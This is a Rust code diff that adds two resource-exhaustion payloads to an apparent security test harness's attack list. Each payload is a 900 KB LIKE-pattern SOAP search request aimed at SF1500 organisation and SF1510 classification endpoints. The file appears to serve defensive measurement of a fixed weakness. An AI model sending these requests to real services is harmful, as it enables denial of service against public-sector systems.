@@ -196,6 +196,23 @@ pub fn namespace_flood_prefix() -> (&'static str, String) {
     (SF1472_PATH, body)
 }
 
+/// A 900 KB LIKE pattern (`%a%a%a…`) in a soeg: SF1500 Virksomhed by `NavnTekst`, or SF1510
+/// Klasse by `TitelTekst`. It was lower-cased and split again for every object compared.
+pub fn huge_like_pattern(sf1510: bool) -> (&'static str, String) {
+    let pattern = "%a".repeat(450_000);
+    if sf1510 {
+        let body = format!(
+            r#"<soap:Envelope xmlns:soap="{SOAP12}"><soap:Body><k:SoegInput xmlns:k="http://stoettesystemerne.dk/klassifikation/klasse/7/" xmlns:sd="urn:oio:sagdok:3.0.0"><k:AttributListe><k:Egenskab><sd:TitelTekst>{pattern}</sd:TitelTekst></k:Egenskab></k:AttributListe><k:TilstandListe/><k:RelationListe/></k:SoegInput></soap:Body></soap:Envelope>"#
+        );
+        ("/klasse/7", body)
+    } else {
+        let body = format!(
+            r#"<soap:Envelope xmlns:soap="{SOAP12}"><soap:Body><v:SoegInput xmlns:v="http://stoettesystemerne.dk/organisation/virksomhed/6/" xmlns:sts="urn:oio:sts:6"><v:AttributListe><v:Egenskab><sts:NavnTekst>{pattern}</sts:NavnTekst></v:Egenskab></v:AttributListe><v:TilstandListe/><v:RelationListe/></v:SoegInput></soap:Body></soap:Envelope>"#
+        );
+        ("/organisation/virksomhed/6", body)
+    }
+}
+
 /// One attack: what it is, the mode it was measured in, where it goes and what it sends.
 pub struct Attack {
     pub name: &'static str,
@@ -234,6 +251,16 @@ pub fn all() -> Vec<Attack> {
             "one Reference to 110 000 elements under 63 prefixes, within the XML limits",
             SecurityMode::Token,
             namespace_flood_within_limits(),
+        ),
+        attack(
+            "900 KB LIKE pattern, SF1500 soeg",
+            SecurityMode::Off,
+            huge_like_pattern(false),
+        ),
+        attack(
+            "900 KB LIKE pattern, SF1510 Klasse soeg",
+            SecurityMode::Off,
+            huge_like_pattern(true),
         ),
     ]
 }
